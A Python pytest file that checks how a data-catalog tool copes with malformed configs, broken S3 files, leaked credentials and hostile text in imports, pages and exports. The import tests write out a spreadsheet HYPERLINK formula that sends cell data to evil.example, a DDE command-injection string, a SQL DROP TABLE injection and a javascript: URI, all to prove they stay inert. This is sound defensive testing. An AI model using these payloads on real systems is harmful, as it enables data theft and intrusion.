"""Bad and hostile input: a wrong sources file, broken and strangely named files, text from AWS and
people written to attack pages, packs and SQL, a secret in the credentials, and import files with
bad rows. AWS is the moto server over HTTP; the register is SQLite and PostgreSQL.

The promise (../shared/DESIGN.md): a wrong sources file is one line naming the file and the field,
and nothing runs; a file the harvest cannot read is reported with why while the rest of its bucket is
harvested and its scope stays complete; text from AWS or people is kept as it came and shown as
text everywhere (pages, packs, reports, events), never rendered, run, or allowed to break an output;
a secret reaches no log, event, register row or pack; an import with a bad row applies nothing and
names every bad cell by row and column.
"""

from __future__ import annotations

import io
import json
import logging
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, inspect, select

from adc import naming
from adc.config import load_sources
from adc.demo import ropa as demo_ropa
from adc.demo.content import ROPA_CSV
from adc.demo.files import encode, to_parquet
from adc.errors import ConfigError, ImportFileError
from adc.lineage.emit import emit_current, emit_harvest
from adc.register import assets, findings, reconcile, store, triage
from adc.register.tables import asset, history
from adc.ropa import activities, exports
from adc.ropa.forms import APPROVE, CHANGE
from adc.ropa.outcomes import MAX_COMMENT, Answer, follow_up, record
from adc.ropa.packs import MAX_VALUE, md, sha256
from adc.ropa.reviews import issue
from adc.ropa.tables import processing_activity, review_step
from adc.tabular import workbook_text
from adc.ui import audit
from adc.ui.deps import MAX_REASON
from tests.dags.test_harvest_dag import dagbag
from tests.openlineage_spec import validation
from tests.reliability.conftest import adc
from tests.support.harvest import aws, bucket, current, harvest, scopes, sources
from tests.support.hostile import (
    ASSET_NAME,
    COLUMNS,
    DESCRIPTION,
    GLUE_TABLE,
    HOSTILE,
    HOSTILE_ASSET,
    IN_TAGS,
    JINJA,
    LONG,
    PREFIXES,
    RENDERED,
    SCRIPT,
    SQL,
    STATEMENT,
    TEXT_BUCKET,
    csv_records,
    csv_rows,
    csv_text,
    escaped,
    file_transport,
    hostile_asset,
    long_key,
    plant_text,
    png_named_csv,
    register_dump,
    register_file,
    ui_client,
)

pytestmark = pytest.mark.reliability("input")

TEAM = ("dana", "erin")

# --------------------------------------------------------------------------- a wrong sources file
# tests/unit/test_config.py has the rest: a wrong type, an unknown key, a missing name, a duplicate
# source name, a bad glob in include, bad YAML (and tests/dags, tests/integration/harvest the DAG and CLI)

SOURCE = "sources:\n  - name: dcr-prod\n    region: eu-west-2\n"
DATABASES = "    databases:\n      casework-db:\n"
BAD_SCHEMA_GLOB = SOURCE + DATABASES + "        conn_id: casework\n        schemas: ['case-[work']\n"
SCHEMA_GLOB_ERROR = "sources[0].databases.casework-db.schemas[0]: unbalanced brackets in glob 'case-[work'"


@pytest.mark.parametrize(("text", "error"), [
    pytest.param(SOURCE + "    exclude: ['*-[sandbox']\n",
                 "sources[0].exclude[0]: unbalanced brackets in glob '*-[sandbox'", id="bad glob in exclude"),
    pytest.param(BAD_SCHEMA_GLOB, SCHEMA_GLOB_ERROR, id="bad glob in a database's schemas"),
    pytest.param(SOURCE + "    include: ['  ']\n", "sources[0].include[0]: a glob may not be empty", id="blank glob"),
    pytest.param(SOURCE + "    sample_rows: lots\n",
                 "sources[0].sample_rows: Input should be a valid integer, unable to parse string as an integer",
                 id="wrong type"),
    pytest.param(SOURCE + DATABASES + "        conn_id: casework\n        schemas: public\n",
                 "sources[0].databases.casework-db.schemas: Input should be a valid list", id="wrong type nested"),
    pytest.param(SOURCE + "tags:\n  owner_key: owner\n", "tags.owner_key: Extra inputs are not permitted",
                 id="unknown key in tags"),
    pytest.param(SOURCE + DATABASES + "        schemas: ['*']\n",
                 "sources[0].databases.casework-db: give exactly one of conn_id or url", id="missing field nested"),
    pytest.param("sources: []\n", "sources: List should have at least 1 item after validation, not 0",
                 id="no source"),
    pytest.param(SOURCE + "    sample_rows: 0\n    missing_threshold: half\n",
                 "sources[0].sample_rows: Input should be greater than or equal to 1 (+1 more)", id="two mistakes"),
    pytest.param(SOURCE + "    name: dcr-sandbox\n",
                 "line 4: not valid YAML: key 'name' appears twice in one mapping (first on line 2)",
                 id="a name given twice"),
    pytest.param(SOURCE + "    exclude: ['*-sandbox-*']\n    exclude: ['*-tmp']\n",
                 "line 5: not valid YAML: key 'exclude' appears twice in one mapping (first on line 4)",
                 id="a key given twice"),
    pytest.param(SOURCE + f'    schedule: "{JINJA}\\n{SCRIPT}"\n',  # a newline in the value
                 f"sources[0].schedule: '{JINJA}\\n{SCRIPT}' is not a five-field cron expression or one of "
                 "@hourly, @daily, @weekly, @monthly, @quarterly, @yearly (null for manual)",
                 id="hostile text in a value"),
])
def test_a_wrong_sources_file_is_refused_in_one_line_naming_the_file_and_the_field(tmp_path, text, error):
    path = tmp_path / "sources.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as caught:
        load_sources(path)
    assert str(caught.value) == f"{path}: {error}"  # one line: a value's newline shows as \n


def test_a_bad_glob_stops_the_cli_and_the_dag_in_one_line_and_nothing_runs(tmp_path, monkeypatch):
    register = tmp_path / "register.db"
    bad = tmp_path / "bad.yaml"
    bad.write_text(BAD_SCHEMA_GLOB)
    done = adc("harvest", "--config", str(bad), "--json", env={"ADC_REGISTER_URL": f"sqlite:///{register}"})
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == f"adc: error: {bad}: {SCHEMA_GLOB_ERROR}\n"
    assert not register.exists()  # refused before anything opened the register
    bag, path = dagbag(monkeypatch, tmp_path, BAD_SCHEMA_GLOB)
    assert bag.dags == {}
    assert list(bag.import_errors.values()) == [f"AirflowTimetableInvalid: {path}: {SCHEMA_GLOB_ERROR}"]


# --------------------------------------------------------------------------- broken and strange files
# tests/integration/harvest/test_s3.py::test_unreadable_files_keep_the_scope_complete has a Parquet file
# short of its footer and a binary .csv beside good files, and tests/unit/harvest/test_schema.py each
# broken format alone; here every kind of bad file shares one bucket with good data.

LAKE = "dcr-bad-lake"
ROWS = [{"applicant_id": f"A{i}", "email": f"p{i}@example.org", "score": i} for i in range(25)]
GOOD = encode(ROWS, "csv")
LONG_KEY = long_key("long", "part-0.csv")
LAKE_FILES = {
    "good/year=2024/part-0.csv": GOOD,
    "truncated/part-0.parquet": to_parquet(ROWS)[: len(to_parquet(ROWS)) // 2],
    "no-header/part-0.csv": b"1,2,3\n4,5,6\n7,8,9\n",
    "ragged/part-0.csv": b"a,b,c\n1,2\n3,4,5,6\n7,8,9\n",
    "binary/image.csv": png_named_csv(),
    "empty/part-0.csv": b"",
    "empty/part-1.csv": b"",
    "empty.csv": b"",
    LONG_KEY: GOOD,
    "données/ré sumé 2024/part 1.csv": GOOD,
    "📦 boxes/part-0.csv": GOOD,
    "rates 100%+/q+1 %2F.csv": GOOD,
    "nul\x00name/part-0.csv": GOOD,  # S3 allows a NUL in a key; PostgreSQL has no text that holds one
    "nul-column/part-0.jsonl": b'{"applicant\\u0000id": "A1", "email": "a@b.c"}\n',  # nor a column name
}
SCHEMA = ["applicant_id", "email", "score"]
NO_SCHEMA = "no non-empty data file to read a schema from"
# dataset name -> (schema status, columns, problems)
LAKE_DATASETS = {
    "good": ("inferred", SCHEMA, []),
    "truncated": ("unreadable", [], [
        "truncated/part-0.parquet: unreadable: no Parquet footer (truncated, or not a Parquet file)"]),
    "no-header": ("inferred", ["column_1", "column_2", "column_3"], [
        "no-header/part-0.csv: no header row (the first row holds values): columns are named by position"]),
    "ragged": ("inferred", ["a", "b", "c"], [
        "ragged/part-0.csv: some rows have a different number of columns from the header"]),
    "binary": ("unreadable", [], ["binary/image.csv: unreadable: binary content where text was expected"]),
    "empty": ("skipped", [], [NO_SCHEMA]),
    "empty.csv": ("skipped", [], [NO_SCHEMA]),
    LONG_KEY.rsplit("/", 1)[0]: ("inferred", SCHEMA, []),
    "données/ré sumé 2024": ("inferred", SCHEMA, []),
    "📦 boxes": ("inferred", SCHEMA, []),
    "rates 100%+": ("inferred", SCHEMA, []),
    "nul-column": ("inferred", ["applicant\ufffdid", "email"], [store.NUL_SHOWN]),
}
LAKE_UNREADABLE = [
    f"s3://{LAKE}/binary/image.csv: binary content where text was expected",
    f"s3://{LAKE}/nul\\x00name/part-0.csv: a NUL character in the key, which the register cannot keep",
    f"s3://{LAKE}/truncated/part-0.parquet: no Parquet footer (truncated, or not a Parquet file)",
]


@pytest.fixture
def bad_lake(moto, register) -> dict:
    """The bucket of bad files, harvested once: the run's summary."""
    assert len(LONG_KEY.encode()) == 1024
    bucket(moto, LAKE, LAKE_FILES)
    return harvest(register, sources({"services": ["s3"]}))


def test_a_bucket_of_broken_files_is_harvested_whole_its_scope_complete_and_each_bad_file_reported(
        bad_lake, register):
    lake = scopes(bad_lake)[("s3", LAKE)]
    assert (bad_lake["status"], bad_lake["errors"], lake["status"], lake["datasets"]) == (
        "complete", [], "complete", 12)
    assert sorted(lake["unreadable"]) == LAKE_UNREADABLE and bad_lake["unreadable"] == 3
    assert bad_lake["merge"] == {"added": 12, "changed": 0, "unchanged": 0, "gone": 0}
    datasets = current(register)
    assert set(datasets) == {(f"s3://{LAKE}", name) for name in LAKE_DATASETS}
    for name, (status, columns, problems) in LAKE_DATASETS.items():
        dataset = datasets[(f"s3://{LAKE}", name)]
        assert (dataset["schema_status"], [f["name"] for f in dataset["fields"]], dataset["problems"]) == (
            status, columns, problems), name
    assert datasets[(f"s3://{LAKE}", "good")]["partition_keys"] == ["year"]
    assert {f["name"]: f["classification"] for f in datasets[(f"s3://{LAKE}", "données/ré sumé 2024")]["fields"]} == {
        "applicant_id": "personal", "email": "personal", "score": "none"}
    reconcile.reconcile(register)
    with register.connect() as conn:
        [files] = findings.list_findings(conn, kind="unreadable_source")
    assert (files["subject"], files["severity"]) == (f"s3://{LAKE} (files)", "low")
    assert sorted(files["evidence"]["unreadable"]) == LAKE_UNREADABLE


def test_long_unicode_and_odd_keys_keep_their_exact_names_everywhere_and_are_never_taken_for_gone(
        bad_lake, register, tmp_path, monkeypatch):
    """Each name is the OpenLineage name of its prefix (adc.naming), byte for byte, in the register,
    its findings and triage questions, the lineage events, `adc datasets --json` and the next harvest."""
    names = {name: naming.s3(LAKE, name) for name in LAKE_DATASETS}
    datasets = current(register)
    assert {naming.DatasetId(d["id"]["namespace"], d["id"]["name"]) for d in datasets.values()} == set(names.values())

    reconcile.reconcile(register)  # every dataset unregistered: a finding each, keyed by the dataset's URI
    with register.connect() as conn:
        found = {f["subject"]: f for f in findings.list_findings(conn, kind="unregistered_dataset")}
    assert set(found) == {identity.uri for identity in names.values()}  # a 1,024-byte key's URI among them
    longest = names[LONG_KEY.rsplit("/", 1)[0]].uri
    asked = {q["finding_id"]: q for q in triage.requests(register, asked_by_run="triage-1", team=TEAM)}
    question = asked[found[longest]["finding_id"]]  # it holds personal data: a person is asked
    assert question["subject"] == f"Unregistered dataset (high): {longest}"[:200]  # a task's subject is bounded
    assert triage.md(longest) in question["body"]  # its body names the dataset whole

    events = file_transport(monkeypatch, tmp_path / "events.jsonl")
    emit_harvest(register, bad_lake["run_id"])
    sent = validation.read_jsonl(events)
    assert validation.invalid_events(sent) == []
    assert {(e["dataset"]["namespace"], e["dataset"]["name"]) for e in sent if "dataset" in e} == {
        (identity.namespace, identity.name) for identity in names.values()}

    listed = adc("datasets", "--json")  # the operator's view of the same register
    assert listed.returncode == 0, listed.stderr
    assert [(d["namespace"], d["name"]) for d in json.loads(listed.stdout)] == sorted(datasets)

    again = harvest(register, sources({"services": ["s3"]}))
    assert again["merge"] == {"added": 0, "changed": 0, "unchanged": 12, "gone": 0}
    assert current(register).keys() == datasets.keys()


# --------------------------------------------------------------------------- text from AWS and people
# tests/integration/ui/test_ui_app.py shows one hostile string (script and {{ 7*7 }}) planted in the demo
# register through its pages; here every kind of hostile text goes in through AWS and the import file,
# and out through the harvest, reconciliation, lineage, the UI, its downloads, the packs and the reports.

COMMENT = (f"Needs changes: {HOSTILE} " + LONG)[:MAX_COMMENT - 1] + "!"  # the longest comment a review keeps


@pytest.fixture
def hostile(moto, register, tmp_path):
    """The register after hostile text went through every door: AWS (harvested), an import, a finding
    acknowledged, a review answered (one comment refused as too long, one change approved)."""
    plant_text(moto)
    assets.import_file(register, register_file(tmp_path / "register.csv", hostile_asset()), actor="dana")
    demo_ropa.load(register, ROPA_CSV, today=date.today())
    config = sources({"services": ["s3", "glue"]})
    assert harvest(register, config)["status"] == "complete"
    reconcile.reconcile(register, policy=reconcile.Policy.from_sources(config))
    with register.connect() as conn:
        owner_finding = findings.list_findings(conn, kind="owner_mismatch")[0]["finding_id"]
    findings.acknowledge(register, owner_finding, reason=HOSTILE, by="dana")

    [first] = issue(register, dag_run_id="run-1", team=TEAM)
    refused = record(register, _answer(first["step_id"], CHANGE, "carol", comment=LONG,
                                       proposed_changes={"retention_schedule": HOSTILE}), team=TEAM)
    assert refused["reason"] == f"the comment is longer than {MAX_COMMENT} characters"
    [owner] = issue(register, dag_run_id="run-2", team=TEAM)  # asked again
    assert record(register, _answer(owner["step_id"], CHANGE, "carol", comment=COMMENT,
                                    proposed_changes={"retention_schedule": HOSTILE}), team=TEAM)["result"] == (
        "awaiting_approval")
    approval = follow_up(register, owner["step_id"])
    assert record(register, _answer(approval["step_id"], APPROVE, "erin"), team=TEAM)["result"] == "changed"
    return {"engine": register, "owner_finding": owner_finding, "steps": (first, owner, approval)}


def _answer(step_id: str, option: str, by: str, **params) -> Answer:
    return Answer(step_id=step_id, option=option, params=params, responded_by=by, responded_at=datetime.now(UTC))


def test_hostile_text_is_kept_verbatim_and_nothing_runs_it(hostile):
    engine = hostile["engine"]
    datasets = current(engine)
    text = {name: datasets[(f"s3://{TEXT_BUCKET}", name)] for name in PREFIXES}
    assert all(d["tags"] == {"note": IN_TAGS, "iar:owner": IN_TAGS, JINJA: SCRIPT, "long": LONG}
               for d in text.values())
    assert all([f["name"] for f in d["fields"]] == list(COLUMNS) for d in text.values())
    table = datasets[(GLUE_TABLE.namespace, GLUE_TABLE.name)]
    assert table["description"] == HOSTILE and [f["name"] for f in table["fields"]] == [JINJA, "email"]
    assert "comment" not in table["properties"]["parameters"]  # free-text table parameters are not read,
    assert not any(HOSTILE in json.dumps(f) for f in table["fields"])  # nor are column comments
    listed = adc("datasets", "--json")  # control characters and all, through the operator's JSON
    assert listed.returncode == 0, listed.stderr
    assert {d["name"]: d["tags"] for d in json.loads(listed.stdout)} == {
        GLUE_TABLE.name: {}, **{prefix: text[prefix]["tags"] for prefix in PREFIXES}}
    with engine.connect() as conn:
        kept = assets.get(conn, HOSTILE_ASSET)
        summaries = {f["kind"]: f["summary"] for f in findings.list_findings(conn, status=None)}
        reason = findings.get(conn, hostile["owner_finding"])["reason"]
        retention = activities.get(conn, "PA-004")["retention_schedule"]
        assert conn.execute(select(func.count()).select_from(asset)).scalar_one() == 1
    assert inspect(engine).has_table("asset")  # the SQL in the text did not run
    assert (kept["name"], kept["description"], kept["retention_schedule"], kept["custodian"]) == (
        ASSET_NAME, DESCRIPTION, SQL, SCRIPT)
    assert (reason, retention) == (HOSTILE, HOSTILE)
    assert summaries["owner_mismatch"].endswith(f"iar:owner={IN_TAGS}")
    assert summaries["retention_mismatch"].startswith(f"{HOSTILE_ASSET} must follow retention schedule {SQL}, ")
    assert set(summaries) == {"classification_mismatch", "owner_mismatch", "retention_mismatch", "schema_drift"}


def test_lineage_events_carry_hostile_text_as_valid_json_and_valid_openlineage(hostile, tmp_path, monkeypatch):
    events = file_transport(monkeypatch, tmp_path / "events.jsonl")
    emit_current(hostile["engine"])
    lines = events.read_text().splitlines()
    sent = [json.loads(line) for line in lines]  # each event one line of JSON, whatever the text held
    assert validation.invalid_events(sent) == []
    by_name = {e["dataset"]["name"]: e["dataset"]["facets"] for e in sent}
    assert set(by_name) == {*PREFIXES, GLUE_TABLE.name}
    assert by_name[GLUE_TABLE.name]["documentation"]["description"] == HOSTILE
    for prefix in PREFIXES:
        facets = by_name[prefix]
        assert facets["documentation"]["description"] == DESCRIPTION  # the asset's, 100,000 characters and more
        assert facets["adc_asset"]["assetName"] == ASSET_NAME
        assert [f["name"] for f in facets["schema"]["fields"]] == list(COLUMNS)


PAGES = ["/adc/", "/adc/assets", f"/adc/assets/{HOSTILE_ASSET}", "/adc/findings?status=", "/adc/activities",
         "/adc/activities/PA-004", "/adc/downloads"]


def test_every_page_shows_hostile_text_escaped_and_runs_no_script(hostile):
    engine, dana = hostile["engine"], ui_client(hostile["engine"])
    with engine.connect() as conn:
        finding_pages = [f"/adc/findings/{f['finding_id']}" for f in findings.list_findings(conn, status=None)]
    steps = [f"/adc/evidence/{step['step_id']}" for step in hostile["steps"]]
    searches = [f"/adc/assets?text={SQL}", f"/adc/assets?location={SCRIPT}&owner={JINJA}",
                f"/adc/findings?kind={SQL}&asset={SCRIPT}"]
    pages = {path: dana.get(path) for path in PAGES + finding_pages + steps + searches}
    for path, page in pages.items():
        assert page.status_code == 200, (path, page.status_code)
        assert "<script" not in page.text.lower(), path
    asset_page = pages[f"/adc/assets/{HOSTILE_ASSET}"].text
    for text in (ASSET_NAME, DESCRIPTION, SCRIPT, *PREFIXES, *COLUMNS):
        assert escaped(text) in asset_page, text  # 100,000 characters of description too: shown, not cut
    assert f"IA-0031 Hostile {escaped(HOSTILE)}" in asset_page
    assert escaped(HOSTILE) in pages[f"/adc/findings/{hostile['owner_finding']}"].text  # the reason given
    assert escaped(IN_TAGS) in pages[f"/adc/findings/{hostile['owner_finding']}"].text  # the tag from AWS
    assert escaped(COMMENT) in pages["/adc/activities/PA-004"].text
    for path, step in zip(steps, hostile["steps"], strict=True):
        assert "the text below matches it" in pages[path].text
        assert escaped(_pack(engine, step["step_id"])) in pages[path].text
    assert "IA-0031" in pages[f"/adc/assets?text={SQL}"].text  # quotes are text to search for, not SQL
    assert not [path for path, page in pages.items() if any(text in page.text for text in RENDERED)]


def test_a_reason_longer_than_the_page_allows_is_refused_and_the_finding_stays_open(hostile):
    engine, alice = hostile["engine"], ui_client(hostile["engine"], "alice")
    with engine.connect() as conn:
        [open_finding] = findings.list_findings(conn, kind="classification_mismatch")
    token = re.search(r'name="csrf_token" value="([^"]+)"', alice.get("/adc/findings").text).group(1)
    refused = alice.post(f"/adc/findings/{open_finding['finding_id']}/acknowledge", follow_redirects=False,
                         data={"reason": f"{HOSTILE} {LONG}"[:MAX_REASON + 1], "csrf_token": token})
    assert (refused.status_code, refused.headers["content-type"]) == (422, "application/json")  # not a page
    with engine.connect() as conn:
        assert findings.get(conn, open_finding["finding_id"])["status"] == "open"


XLSX_CELL = 32_767  # the most text an XLSX cell holds: openpyxl cuts there


def test_the_json_api_and_every_download_keep_hostile_text_intact(hostile):
    dana = ui_client(hostile["engine"])
    api = dana.get(f"/adc/api/assets/{HOSTILE_ASSET}", headers={"Accept": "application/json"}).json()
    assert (api["asset"]["name"], api["asset"]["description"]) == (ASSET_NAME, DESCRIPTION)
    listed = dana.get("/adc/api/findings", params={"status": ""}, headers={"Accept": "application/json"}).json()
    assert any(f["summary"].endswith(f"iar:owner={IN_TAGS}") for f in listed["findings"])

    register_csv = {row[0]: row for row in csv_rows(dana.get("/adc/download/register.csv").text)}
    assert register_csv[HOSTILE_ASSET][1:3] == [ASSET_NAME, DESCRIPTION]
    sheet = load_workbook(io.BytesIO(dana.get("/adc/download/register.xlsx").content))["Register"]
    assert (sheet["B2"].value, sheet["C2"].value) == (workbook_text(ASSET_NAME),
                                                      workbook_text(DESCRIPTION)[:XLSX_CELL])
    assert "\ufffd" in sheet["B2"].value and sheet["B2"].data_type == "s"  # a control character XLSX cannot hold

    heading = exports.HEADING_OF_FIELD["retention_schedule"]  # PA-004's, as the review changed it
    assert [r[heading] for r in csv_records(dana.get("/adc/download/ropa.csv").text)].count(HOSTILE) == 1
    template = load_workbook(io.BytesIO(dana.get("/adc/download/ropa.xlsx").content))["Template"]
    column = [c.value for c in template[1]].index(heading)
    assert [row[column] for row in template.iter_rows(min_row=2, values_only=True)].count(workbook_text(HOSTILE)) == 1

    report = dana.get("/adc/download/reconciliation.html").text
    assert "<script" not in report.lower() and escaped(IN_TAGS) in report and escaped(HOSTILE) in report
    report_csv = csv_rows(dana.get("/adc/download/reconciliation.csv").text)
    columns = report_csv[0]
    owner = next(r for r in report_csv[1:] if r[columns.index("kind")] == "owner_mismatch")
    assert owner[columns.index("reason")] == HOSTILE and owner[columns.index("summary")].endswith(IN_TAGS)
    assert json.loads(owner[columns.index("evidence")])["datasets"]  # the evidence as JSON, still parseable

    pack = dana.get("/adc/download/audit-pack.zip").content
    assert audit.verify(pack) == []
    with zipfile.ZipFile(io.BytesIO(pack)) as archive:
        assert load_workbook(io.BytesIO(archive.read("ropa.xlsx")))["Template"].max_row == 7


def _pack(engine, step_id: str) -> str:
    with engine.connect() as conn:
        return conn.execute(select(review_step.c.pack).where(review_step.c.step_id == step_id)).scalar_one()


def test_review_packs_show_hostile_text_as_inert_markdown_bounded_where_packs_bound_it(hostile):
    engine = hostile["engine"]
    first, owner, approval = (_pack(engine, step["step_id"]) for step in hostile["steps"])
    with engine.connect() as conn:
        steps = {r.step_id: r for r in conn.execute(select(review_step))}
    for step, pack in zip(hostile["steps"], (first, owner, approval), strict=True):
        assert step["body"] == pack and steps[step["step_id"]].pack_sha256 == sha256(pack)
        assert not re.search(r"(?<!\\)<", pack) and "{{ 7\\*7 }}" in pack  # HTML and Markdown escaped, templates text
    assert f"#### IA-0031 {md(ASSET_NAME)} (active)" in first
    for prefix in PREFIXES:
        assert md(f"s3://{TEXT_BUCKET}/{prefix}") in first
    assert "the answer by carol was not accepted: the comment is longer than 4000 characters" in owner
    assert f"**Comment from carol:** {md(COMMENT)}" in approval
    assert len(md(COMMENT)) < 2 * MAX_VALUE and md(COMMENT).endswith("…")  # 4,000 characters shown as 600
    assert f"| `retention_schedule` | RS-07: 3 years | {md(HOSTILE)} |" in approval
    refused = steps[hostile["steps"][0]["step_id"]]
    assert (refused.status, refused.comment) == ("refused", LONG[:MAX_COMMENT])  # kept as sent, within bounds
    assert steps[hostile["steps"][1]["step_id"]].comment == COMMENT.strip()
    assert not [pack for pack in (first, owner, approval) if any(text in pack for text in RENDERED)]


# --------------------------------------------------------------------------- a secret in the credentials


@pytest.mark.reliability("input", "security")
def test_a_secret_in_the_credentials_reaches_no_log_event_register_row_or_pack(
        moto, register, tmp_path, monkeypatch, caplog):
    """The base credentials are an IAM user's key and a session token; the source assumes a role, as a
    multi-account estate does, so STS hands out more credentials. botocore logs the wire at DEBUG."""
    iam = aws(moto, "iam")
    iam.create_user(UserName="harvester")
    key = iam.create_access_key(UserName="harvester")["AccessKey"]
    token = f"token-{key['SecretAccessKey'][::-1]}"
    secrets = (key["SecretAccessKey"], token)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", key["AccessKeyId"])
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", key["SecretAccessKey"])
    monkeypatch.setenv("AWS_SESSION_TOKEN", token)
    bucket(moto, TEXT_BUCKET, {f"{JINJA}/part-0.csv": encode([{"email": "p@example.org"}], "csv")})
    assets.import_file(register, register_file(tmp_path / "register.csv", hostile_asset()), actor="dana")
    demo_ropa.load(register, ROPA_CSV, today=date.today())
    events = file_transport(monkeypatch, tmp_path / "events.jsonl")
    config = sources({"services": ["s3"], "role_arn": "arn:aws:iam::123456789012:role/adc-harvester"})

    caplog.set_level(logging.DEBUG)
    summary = harvest(register, config)
    reconcile.reconcile(register, policy=reconcile.Policy.from_sources(config))
    emit_harvest(register, summary["run_id"])
    [question] = issue(register, dag_run_id="run-1", team=TEAM)
    assert summary["status"] == "complete" and (f"s3://{TEXT_BUCKET}", JINJA) in current(register)
    assert md(f"s3://{TEXT_BUCKET}/{JINJA}") in question["body"]  # the pack is there, and shows the data
    logged = caplog.text
    assert any(r.name == "botocore.endpoint" and r.levelno == logging.DEBUG for r in caplog.records)
    assert "X-Amz-Security-Token': b'***'" in logged  # the wire was logged, its token blanked
    assert "<SecretAccessKey>" not in logged  # nor STS's answer with the assumed role's keys

    sources_file = tmp_path / "sources.yaml"
    sources_file.write_text(SOURCE + "    services: [s3]\n    role_arn: arn:aws:iam::123456789012:role/adc-harvester\n")
    cli = adc("harvest", "-v", "--config", str(sources_file))
    assert cli.returncode == 0 and "complete, 1 dataset(s)" in cli.stdout, cli.stderr
    everything = "\n".join([logged, cli.stdout, cli.stderr, events.read_text(), json.dumps(question, default=str),
                            *register_dump(register)])
    for secret in secrets:
        assert secret not in everything


# --------------------------------------------------------------------------- import files with bad rows
# tests/unit/register/test_register_file.py and tests/integration/register/test_register_import.py
# (register), tests/integration/ropa/test_ropa_import_export.py (RoPA) have bad rows of plain text,
# and formulas that export inert; here hostile text fills the bad rows and a good row beside them.

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"


def _asset_row(asset_id: str, **cells: str) -> dict[str, str]:
    return {"asset_id": asset_id, "name": f"Asset {asset_id}", "owner": "alice", "classification": "OFFICIAL",
            "personal_data": "no", **cells}


def test_a_register_file_of_hostile_bad_rows_applies_nothing_and_names_every_cell(register, tmp_path):
    good = _asset_row("IA-0101", name=FORMULA, description=COMMAND, custodian=SCRIPT, data_subjects=HOSTILE)
    path = register_file(tmp_path / "register.csv", good,
                         _asset_row("IA-0102", name=f"{JINJA} {SCRIPT}", personal_data=JINJA),
                         _asset_row("IA-0103", name="N" * 301, classification="OFFICIAL\nSECRET"),
                         _asset_row(SQL, location="javascript:alert(1)"),
                         _asset_row("IA-0101", retention_schedule=LONG), _asset_row("IA-0101"))
    with pytest.raises(ImportFileError) as caught:
        assets.import_file(register, path, actor="dana")
    assert caught.value.problems == [
        f"row 3, column personal_data: '{JINJA}' is not yes/no/true/false",
        "row 4, column name: longer than 300 characters",
        "row 4, column classification: 'OFFICIAL\\nSECRET' is not a GSCP marking "
        "(OFFICIAL, OFFICIAL-SENSITIVE, SECRET, TOP SECRET)",
        "row 5, column location: location 'javascript:alert(1)' is not a recognised URI (s3://, glue://, "
        "dynamodb://, rds://, redshift://, postgres://, or an arn:aws:... ARN)",
        f"row 5, column asset_id: {SQL!r} is not a valid id (letters, digits, '.', '_', '-'; at most 32)",
        "row 6, column retention_schedule: longer than 100 characters",
        "row 7, column asset_id: 'IA-0101' already given in row 2",
    ]
    assert "\n" not in str(caught.value) and str(caught.value).startswith(f"{path}: 7 problem(s), nothing imported")
    with register.connect() as conn:
        assert [conn.execute(select(func.count()).select_from(t)).scalar_one() for t in (asset, history)] == [0, 0]

    assets.import_file(register, register_file(tmp_path / "good.csv", good), actor="dana")
    with register.connect() as conn:
        kept = assets.get(conn, "IA-0101")
    assert (kept["name"], kept["description"], kept["custodian"], kept["data_subjects"]) == (
        FORMULA, COMMAND, SCRIPT, HOSTILE)
    exported = {row[0]: row for row in csv_rows(assets.export_text(register, "csv"))}["IA-0101"]
    assert exported[1:3] == [f"'{FORMULA}", f"'{COMMAND}"]  # inert in a spreadsheet; import strips the guard


def test_a_ropa_file_of_hostile_bad_rows_applies_nothing_and_names_every_cell(register, tmp_path):
    rows = csv_records(ROPA_CSV.read_text(encoding="utf-8"))
    rows[0]["Purpose of processing"] = FORMULA  # good, hostile: only the rows below are wrong
    rows[1]["Owner"] = JINJA
    rows[2]["Review frequency (months)"] = "'; DROP TABLE processing_activity; --"
    rows[3]["Linked assets"] = f"IA-0031, {SCRIPT}"
    rows[4]["Response time"] = STATEMENT
    rows[5]["Business function"] = LONG
    path = tmp_path / "ropa.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    with pytest.raises(ImportFileError) as caught:
        exports.import_file(register, path, actor="dana")
    problems = caught.value.problems
    assert [p.split(":", 1)[0] for p in problems] == [
        "row 3, column 'Owner'", "row 4, column 'Review frequency (months)'", "row 5, column 'Linked assets'",
        "row 6, column 'Response time'", "row 7, column 'Business function'"]
    assert f"not an asset id (IA-nnnn): {SCRIPT}" in problems[2]
    assert "String should have at most 4000 characters" in problems[4] and LONG not in str(caught.value)
    assert "\n" not in str(caught.value)
    with register.connect() as conn:
        assert conn.execute(select(func.count()).select_from(processing_activity)).scalar_one() == 0
